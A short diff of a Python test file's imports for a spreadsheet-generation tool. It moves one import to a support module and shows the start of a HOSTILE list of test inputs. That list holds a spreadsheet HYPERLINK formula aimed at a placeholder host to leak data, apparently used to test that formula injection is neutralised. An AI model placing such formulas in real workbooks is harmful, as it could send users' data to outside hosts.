@@ -11,10 +11,10 @@ from openpyxl import Workbook, load_workbook
 
 from gknb.cli import main
 from gknb.formats import FORMATS
-from gknb.review.generate import report_text
 from gknb.synth import consistent_values
 from gknb.text import CELL_TEXT_MAX, cell_text, formula_like, put
 from gknb.workbook.template import build_workbook, write_values
+from support.generate import report_text
 
 HOSTILE = [
     '=HYPERLINK("http://x.invalid/?leak","click")',
